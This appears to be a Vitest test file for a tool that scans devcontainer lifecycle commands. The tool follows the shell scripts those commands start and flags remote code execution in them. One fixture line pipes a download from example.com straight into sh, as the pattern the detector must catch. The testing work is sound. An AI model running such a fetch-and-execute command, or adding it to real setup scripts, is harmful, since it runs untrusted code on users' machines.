import { describe, expect, test } from 'vitest';
import { read } from './read.js';

const remote = 'curl http://example.com/x | sh\n';

async function scriptsOf(config: object, files: Readonly<Record<string, string>>) {
  const { lifecycle } = await read(config, files);
  return lifecycle.flatMap(({ value }) => value.scripts);
}

describe('scripts that a lifecycle command starts', () => {
  test.each([
    ['bash .devcontainer/a.sh'],
    ['./.devcontainer/a.sh --quick'],
    ['chmod +x .devcontainer/a.sh && .devcontainer/a.sh'],
    ['sudo -E bash -e .devcontainer/a.sh'],
    ['FOO=1 sh .devcontainer/a.sh || true'],
    ["bash -lc 'true; .devcontainer/a.sh'"],
    ['. ./.devcontainer/a.sh'],
    ['bash ${containerWorkspaceFolder}/.devcontainer/a.sh'],
    ['bash /workspaces/project/.devcontainer/a.sh'],
    ['if true; then bash .devcontainer/a.sh; fi'],
    [['bash', '.devcontainer/a.sh']],
    [['bash', '-c', 'bash .devcontainer/a.sh']],
    [{ one: 'true', two: ['.devcontainer/a.sh'] }],
  ])('are found in %j', async (postCreateCommand) => {
    const scripts = await scriptsOf({ postCreateCommand }, { '.devcontainer/a.sh': `#!/bin/sh\n${remote}` });
    expect(scripts.map(({ file }) => file.path)).toEqual(['.devcontainer/a.sh']);
    expect(scripts[0]?.remoteExecutions).toHaveLength(1);
  });

  test.each([
    ['cat .devcontainer/a.sh'],
    ['echo "bash .devcontainer/a.sh"'],
    ['# bash .devcontainer/a.sh'],
    ['pip install -r .devcontainer/a.sh'],
    ['python3 .devcontainer/a.sh'],
    ['bash .devcontainer/other.sh'],
    ['bash ../../outside.sh'],
  ])('are not found in %j', async (postCreateCommand) => {
    expect(await scriptsOf({ postCreateCommand }, { '.devcontainer/a.sh': remote })).toEqual([]);
  });

  test('are followed three levels deep, each once', async () => {
    const files = {
      'a.sh': 'bash b.sh\nbash a.sh',
      'b.sh': './c.sh',
      'c.sh': 'bash d.sh; bash a.sh',
      'd.sh': remote,
    };
    const scripts = await scriptsOf({ postStartCommand: 'bash a.sh' }, files);
    expect(scripts.map(({ file }) => file.path)).toEqual(['a.sh', 'b.sh', 'c.sh']);
  });

  test('may have come into the image by COPY', async () => {
    const scripts = await scriptsOf(
      { build: { dockerfile: 'Dockerfile' }, postStartCommand: 'sudo /usr/local/bin/start.sh' },
      {
        '.devcontainer/Dockerfile': 'FROM a\nCOPY scripts/start.sh /usr/local/bin/',
        '.devcontainer/scripts/start.sh': remote,
      },
    );
    expect(scripts.map(({ file }) => file.path)).toEqual(['.devcontainer/scripts/start.sh']);
  });

  test('are those of shells only, and not those of the host', async () => {
    const files = { 'a.py': '#!/usr/bin/env python3\n', 'b.sh': remote };
    expect(await scriptsOf({ postCreateCommand: './a.py', initializeCommand: 'bash b.sh' }, files)).toEqual(
      [],
    );
  });
});
